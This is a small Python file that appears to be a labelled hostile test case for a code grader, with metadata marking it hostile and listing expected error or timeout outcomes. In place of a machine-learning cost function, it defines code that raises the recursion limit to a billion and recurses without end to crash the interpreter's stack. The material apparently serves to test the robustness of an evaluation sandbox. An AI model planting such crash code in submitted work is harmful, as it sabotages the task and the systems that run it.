# label: raises the recursion limit and recurses through C code until the stack is gone
# replace: compute_cost_with_regularization
# hostile: yes
# compute_cost_with_regularization: error | failed | timeout
# score: 75

# %%
import functools, sys

def deeper(x):
    return functools.reduce(lambda a, b: deeper(a), [x, x])

def compute_cost_with_regularization(A3, Y, parameters, lambd):
    sys.setrecursionlimit(10 ** 9)
    return deeper(lambd)
